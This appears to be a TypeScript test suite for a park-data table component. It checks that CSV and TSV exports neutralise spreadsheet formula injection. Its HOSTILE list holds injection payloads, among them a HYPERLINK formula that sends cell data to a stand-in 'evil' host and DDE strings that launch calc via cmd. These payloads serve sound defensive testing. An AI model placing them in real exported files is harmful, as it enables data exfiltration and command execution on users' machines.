import { expect } from '@open-wc/testing';
import { parks } from '@sinocarte/data/parks';
import { csvField, toCSV, toTSV } from '../src/lib/table-csv.js';
// The data package's CSV downloads are written by this plain-Node module at build time.
import { parseCsvRows, toCsv as dataCsv } from '../../../data/csv.mjs';
import '../src/index.js';

/**
 * Issue 15, "CSV export (spreadsheet formula injection)": what a spreadsheet would run as a formula, in the
 * table's export (both layouts, and each read with the other layout's separator) and in the data package's
 * downloads. A cell is safe when no field a reader may split it into starts with = + - @ TAB CR or NUL.
 */

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\0'];

/** The fields a spreadsheet finds in one CSV line when it splits on `separator` (RFC 4180 quotes honoured). */
function fieldsOf(line: string, separator: string): string[] {
  const fields: string[] = [];
  let field = '';
  let quoted = false;
  let start = true;
  for (let i = 0; i < line.length; i++) {
    const c = line[i];
    if (start && c === '"') {
      quoted = true;
      start = false;
    } else if (quoted && c === '"') {
      if (line[i + 1] === '"') {
        field += '"';
        i++;
      } else quoted = false;
    } else if (!quoted && c === separator) {
      fields.push(field);
      field = '';
      start = true;
    } else {
      field += c;
      start = false;
    }
  }
  fields.push(field);
  return fields;
}
const dangerous = (fields: string[]) => fields.filter((f) => TRIGGERS.includes(f[0]) && !/^[+-]?\d/.test(f));
const body = (csv: string) => csv.replace(/^\uFEFF/, '').split('\r\n').filter(Boolean);

const HOSTILE = [
  'x;=HYPERLINK("http://evil/?"&A1,"Open")',
  'x,=HYPERLINK("http://evil/?"&A1,"Open")',
  'a; +cmd|\' /C calc\'!A0',
  'b, @SUM(1+1)*cmd|\' /C calc\'!A0',
  '\0=1+1',
  '=1+1',
  '\t=1',
];

describe('hostile input: CSV export and spreadsheet formulas', () => {
  for (const layout of ['international', 'french'] as const) {
    for (const readWith of [',', ';']) {
      it(`table export (${layout} layout) read with "${readWith}": no field starts a formula`, () => {
        const csv = toCSV(['cell'], HOSTILE.map((v) => [v]), { layout });
        for (const line of body(csv)) expect(dangerous(fieldsOf(line, readWith)), line).to.deep.equal([]);
      });
    }
  }

  it('a cell holding the other layout\'s separator is quoted in both layouts', () => {
    expect(csvField('x;y', { layout: 'international' })).to.equal('"x;y"');
    expect(csvField('x,y', { layout: 'french' })).to.equal('"x,y"');
  });

  it('a cell starting with NUL is defused like = + - @ TAB CR', () => {
    expect(csvField('\0=1+1', { layout: 'international' })).to.equal("'\0=1+1");
    expect(toTSV(['a'], [['\0cmd']], { layout: 'french' })).to.equal("a\n'\0cmd\n");
  });

  it('numbers, negative ones included, stay numbers', () => {
    expect(csvField(-3.5, { layout: 'international' })).to.equal('-3.5');
    expect(csvField(-3.5, { layout: 'french' })).to.equal('-3,5');
  });

  for (const readWith of [',', ';']) {
    it(`data package CSV (data/csv.mjs) read with "${readWith}": the same guard, no field starts a formula`, () => {
      const csv = dataCsv(HOSTILE.map((note, i) => ({ id: `r${i}`, note, value: -2 })));
      for (const line of body(csv).slice(1)) expect(dangerous(fieldsOf(line, readWith)), line).to.deep.equal([]);
      // Numbers are untouched and the text reads back with its guard visible, nothing lost.
      expect(parseCsvRows(csv)[1]).to.deep.equal(['r0', `x;'=HYPERLINK("http://evil/?"&A1,"Open")`, '-2']);
    });
  }

  it('<sino-park-table>: toCSV(), toTSV() and the download carry the guard', async () => {
    const el = document.createElement('sino-park-table') as HTMLElement & { rows: unknown; toCSV(layout?: string): string; toTSV(): string; updateComplete: Promise<unknown> };
    el.rows = [{ ...parks[0], name: 'x;=HYPERLINK("http://evil")' }];
    document.body.append(el);
    try {
      await el.updateComplete;
      for (const layout of ['international', 'french']) {
        for (const readWith of [',', ';']) {
          for (const line of body(el.toCSV(layout))) expect(dangerous(fieldsOf(line, readWith)), `${layout} / ${readWith}: ${line}`).to.deep.equal([]);
        }
      }
      expect(el.toTSV()).to.contain(`x;'=HYPERLINK`);
    } finally {
      el.remove();
    }
  });
});
